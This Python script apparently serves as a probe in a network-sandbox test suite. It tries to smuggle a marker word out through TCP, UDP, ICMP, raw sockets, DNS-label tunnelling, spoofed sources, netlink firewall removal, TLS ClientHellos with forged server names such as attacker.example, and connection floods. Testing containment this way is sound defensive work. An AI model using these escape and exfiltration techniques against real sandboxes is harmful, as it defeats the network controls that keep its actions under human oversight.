# SPDX-License-Identifier: Apache-2.0
"""What a program inside tries, to get a word out: python3 -c "$(cat inside.py)" ATTEMPT WORD [ARGUMENT…]. It never fails: whether the word arrived is judged outside."""

import ctypes
import os
import socket
import struct
import sys
import threading


def family_of(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(word, *places):
    """Connect and say it."""
    for host, port in (p.rsplit("/", 1) for p in places):
        try:
            with socket.socket(family_of(host)) as s:
                s.settimeout(3)
                s.connect((host, int(port)))
                s.sendall(word.encode())
                s.recv(100)
        except OSError as error:
            print(host, port, error)


def by_name(word, *places):
    """Let the system resolve, then connect: names, and the many ways to write an address."""
    for host, port in (p.rsplit("/", 1) for p in places):
        try:
            with socket.create_connection((host, int(port)), 3) as s:
                s.sendall(word.encode())
                s.recv(100)
        except OSError as error:
            print(host, port, error)


def udp(word, *places):
    for host, port in (p.rsplit("/", 1) for p in places):
        for connected in (True, False):
            try:
                with socket.socket(family_of(host), socket.SOCK_DGRAM) as s:
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                    if connected:
                        s.connect((host, int(port)))
                        s.send(word.encode())
                    else:
                        s.sendto(word.encode(), (host, int(port)))
            except OSError as error:
                print(host, port, error)


def icmp(word, *hosts):
    """Echo requests, by the sockets that ordinary users may have and by raw ones."""
    for host in hosts:
        v6 = ":" in host
        packet = struct.pack(">BBHHH", 128 if v6 else 8, 0, 0, 7, 1) + word.encode()
        for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            try:
                with socket.socket(family_of(host), kind, 58 if v6 else 1) as s:
                    total = sum(struct.unpack(f">{(len(packet) + 1) // 2}H", packet + b"\0" * (len(packet) % 2)))
                    total = (total & 0xffff) + (total >> 16)
                    s.sendto(packet[:2] + (packet[2:4] if v6 else struct.pack(">H", 0xffff & ~(total + (total >> 16)))) + packet[4:], (host, 0))
            except OSError as error:
                print(host, kind, error)


def protocols(word, host):
    """Everything else that carries bytes over IP."""
    for family, kind, protocol in ((2, 1, 132), (2, 5, 132), (2, 6, 33), (2, 2, 136), (2, 1, 262), (2, 3, 255), (17, 3, 768), (10, 3, 255), (40, 1, 0), (16, 3, 0)):
        try:
            with socket.socket(family, kind, protocol) as s:
                s.settimeout(1)
                if family == 40:
                    s.connect((2, 1234))
                elif family == 17:
                    s.bind(("lo", 768))
                    s.send(b"\0" * 14 + word.encode())
                elif protocol == 255:
                    body = word.encode()
                    s.sendto(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, 17, 0, socket.inet_aton("10.0.0.2"), socket.inet_aton(host)) + body, (host, 0))
                else:
                    s.connect((host, 1234))
                    s.sendall(word.encode())
        except OSError as error:
            print(family, kind, protocol, error)


def question(name, kind):
    labels = b"".join(bytes([len(p)]) + p.encode("latin-1") for p in name.split(".") if p) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)


def resolver(word, suffix):
    """Labels as payload, through the system's resolver."""
    for name in (f"{word}.{suffix}", f"a.b.c.{word}.{suffix}", f"{word.upper()}.{suffix}."):
        try:
            socket.getaddrinfo(name, 80)
        except OSError as error:
            print(name, error)


def dns(word, suffix, *servers):
    """Labels as payload, to any server, of any type, over both transports, and in malformed questions."""
    for server in servers:
        for kind in (1, 5, 10, 15, 16, 28, 33, 35, 64, 65, 99, 252, 255):
            messages = [question(f"{word}.{suffix}", kind)]
            if kind == 1:
                messages += [question("x", 1) + word.encode(), question(f"{word}.{suffix}", 1).replace(b"\1\0", b"\x29\0", 1), word.encode() * 20]
            for message in messages:
                try:
                    with socket.socket(family_of(server), socket.SOCK_DGRAM) as s:
                        s.settimeout(0.2 if len(messages) > 1 else 3)
                        s.connect((server, 53))
                        s.send(message)
                        s.recv(4096)
                except OSError as error:
                    print(server, kind, error)
        try:
            with socket.create_connection((server, 53), 3) as s:
                message = question(f"{word}.{suffix}", 16)
                s.sendall(struct.pack(">H", len(message)) + message + struct.pack(">H", 60000) + word.encode())
                s.shutdown(socket.SHUT_WR)
                s.recv(4096)
        except OSError as error:
            print(server, error)


def spoofed(word, source, host, port):
    """From an address of somebody else: on a loopback where every address is local, binding to it works."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family_of(host), kind) as s:
                s.settimeout(3)
                s.bind((source, 0))
                s.connect((host, int(port)))
                s.send(word.encode())
        except OSError as error:
            print(kind, error)


def fast_open(word, host, port):
    """Data in the very first packet."""
    try:
        with socket.socket(family_of(host)) as s:
            s.settimeout(3)
            s.sendto(word.encode(), 0x20000000, (host, int(port)))
    except OSError as error:
        print(error)


def abstract(word, name):
    """A socket of the host without a file."""
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(3)
            s.connect("\0" + name)
            s.sendall(word.encode())
    except OSError as error:
        print(error)


def own_rules(word, host, port):
    """Take the filter or the routes away first: netlink, as root of the sandbox."""
    for protocol, message in ((12, b"\x14\0\0\0\x02\x0a\x05\x03" + bytes(12)), (0, b"\x20\0\0\0\x10\0\x05\0" + bytes(8) + bytes(4) + struct.pack("i", 1) + bytes(8))):
        try:
            with socket.socket(16, socket.SOCK_RAW, protocol) as s:
                s.settimeout(1)
                s.send(message)
                print(s.recv(4096))
        except OSError as error:
            print(protocol, error)
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x40000000, 0x10000000 | 0x40000000):
        print("unshare", libc.unshare(flags), ctypes.get_errno())
    tcp(word, f"{host}/{port}")


def hello(name, extra=b"", pad=0, record=16384):
    """A ClientHello."""
    def vector(size, data):
        return len(data).to_bytes(size, "big") + data

    def extension(kind, data):
        return struct.pack(">H", kind) + vector(2, data)
    extensions = extension(0, vector(2, b"\0" + vector(2, name))) if name is not None else b""
    extensions += extension(43, b"\2\3\4") + extra + (extension(21, bytes(pad)) if pad else b"")
    body = b"\3\3" + os.urandom(32) + vector(1, b"") + vector(2, b"\x13\1") + vector(1, b"\0") + vector(2, extensions)
    message = b"\1" + vector(3, body)
    return b"".join(b"\x16\3\1" + vector(2, message[i:i + record]) for i in range(0, len(message), record))


def tls(word, how, host, port):
    """A ClientHello that says something else than what was dialled; what follows it is the word."""
    first = {
        "other": lambda: hello(b"attacker.example"),
        "none": lambda: hello(None),
        "nul": lambda: hello(host.encode() + b"\0.attacker.example"),
        "encrypted": lambda: hello(host.encode(), struct.pack(">HH", 0xfe0d, 64) + bytes(64)),
        "fragments": lambda: hello(b"attacker.example", record=1),
        "quantum": lambda: hello(b"attacker.example", pad=1900, record=700),
        "twice": lambda: hello(host.encode(), b"\0\0" + struct.pack(">H", 9) + b"\0\7\0\0\4evil"),
        "huge": lambda: hello(b"attacker.example", pad=60000) * 2,
    }[how]()
    try:
        with socket.create_connection((host, int(port)), 5) as s:
            for piece in ([first[i:i + 1000] for i in range(0, len(first), 1000)] if len(first) > 2000 else [first]):
                s.sendall(piece)
            s.sendall(b"\x17\3\3" + struct.pack(">H", len(word)) + word.encode())
            s.settimeout(3)
            s.recv(100)
    except OSError as error:
        print(error)


def flood(_word, kind, count):
    """As many as fit, all at once, then let go."""
    kept, threads = [], []

    def some(n):
        for i in range(n):
            try:
                if kind == "names":
                    socket.getaddrinfo(f"{'x' * 50}{i}-{threading.get_ident()}.{'y' * 60}.{'z' * 60}.raw.example", 80)
                elif kind == "denied":
                    tcp("x", f"9.9.{i % 250}.{n % 250}/{1000 + i}")
                else:
                    s = socket.socket()
                    s.settimeout(0.5)
                    s.connect(("198.18.0.1", 1234))
                    if kind == "half":
                        s.sendall(b"\x16\3\1\x40\0" + b"\1\0\xff\0" + bytes(16000))
                    kept.append(s)
            except OSError:
                pass
    socket.getaddrinfo("a.raw.example", 80)
    for _ in range(8):
        threads.append(threading.Thread(target=some, args=(int(count) // 8,)))
        threads[-1].start()
    for thread in threads:
        thread.join()
    print(len(kept))


globals()[sys.argv[1]](*sys.argv[2:])
